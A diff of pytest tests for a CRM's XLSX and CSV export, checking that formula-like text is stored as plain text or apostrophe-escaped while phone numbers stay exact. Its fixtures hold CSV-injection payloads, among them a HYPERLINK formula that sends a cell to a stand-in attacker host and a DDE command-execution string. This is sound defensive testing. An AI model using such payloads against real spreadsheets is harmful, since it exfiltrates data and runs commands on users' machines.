@@ -179,16 +179,35 @@ def test_a_refused_query_fails_before_the_download_starts(uow_factory, people):
     assert refused.value.errors[0].code == "field_not_allowed"
 
 
-def test_an_xlsx_export_holds_the_same_cells(uow_factory, people):
+LINK = '=HYPERLINK("http://attacker.example/?x="&B2,"Click to verify")'
+
+
+@pytest.fixture
+def linked_account(uow_factory, people):
+    """An account whose name is a formula that would send a cell away, with two mobile phones."""
     admin, _, _ = people
     customers.create_account(
         uow_factory(),
         admin.actor,
-        AccountCreate.model_validate({"name": '=HYPERLINK("x")', "industry": "finance"}),
+        AccountCreate.model_validate(
+            {
+                "name": LINK,
+                "industry": "finance",
+                "phones": [{"number": "13812345678"}, {"number": "13900001111"}],
+            }
+        ),
     )
+    return admin
 
+
+def test_an_xlsx_export_writes_every_text_as_a_text_cell_without_an_apostrophe(uow_factory, linked_account):
     download = exports.export_records(
-        uow_factory(), admin.actor, RecordKind.ACCOUNT, ListQuery(), ExportFormat.XLSX, translator("zh_CN")
+        uow_factory(),
+        linked_account.actor,
+        RecordKind.ACCOUNT,
+        ListQuery(),
+        ExportFormat.XLSX,
+        translator("zh_CN"),
     )
     workbook = openpyxl.load_workbook(io.BytesIO(b"".join(download.chunks)))
 
@@ -196,8 +215,40 @@ def test_an_xlsx_export_holds_the_same_cells(uow_factory, people):
     rows = [list(row) for row in sheet.iter_rows(values_only=True)]
     assert download.file_name.startswith("accounts-") and download.file_name.endswith(".xlsx")
     assert rows[0][:4] == ["客户名称", "英文名称", "统一社会信用代码", "行业"]
-    assert rows[1][0] == '\'=HYPERLINK("x")'  # text, never a formula
+    name = sheet.cell(row=2, column=1)
+    assert (name.value, name.data_type) == (LINK, "s")  # shown as it was typed, never run
     assert rows[1][3] == "金融业"
+    phones = sheet.cell(row=2, column=rows[0].index("电话") + 1)
+    assert (phones.value, phones.data_type) == ("+8613812345678; +8613900001111", "s")
+
+
+def test_a_csv_export_quotes_a_formula_but_keeps_phone_numbers_exact(uow_factory, linked_account):
+    rows = exported_csv(uow_factory, linked_account.actor, kind=RecordKind.ACCOUNT)
+
+    assert column(rows, "Account name") == ["'" + LINK]
+    assert column(rows, "Phones") == ["+8613812345678; +8613900001111"]
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("+8613812345678", "+8613812345678"),  # E.164: digits only, nothing to run
+        ("+8613812345678; +8613900001111", "+8613812345678; +8613900001111"),
+        ("-12.5", "-12.5"),  # a plain number stays the number it is
+        ("13812345678", "13812345678"),
+        ('=HYPERLINK("http://x.example")', '\'=HYPERLINK("http://x.example")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-1-2", "'-1-2"),  # a spreadsheet would compute -3
+        ("+86 138 1234 5678", "'+86 138 1234 5678"),  # not E.164: the space-separated form
+        ("+8613812345678;+1", "'+8613812345678;+1"),  # not the phones column's separator
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("王芳", "王芳"),
+    ],
+)
+def test_csv_text_gets_the_owasp_apostrophe_only_where_a_formula_could_start(text, written):
+    assert exports.spreadsheet_text(text) == written
 
 
 def test_many_pages_stream_in_order(uow_factory, make_person, monkeypatch):
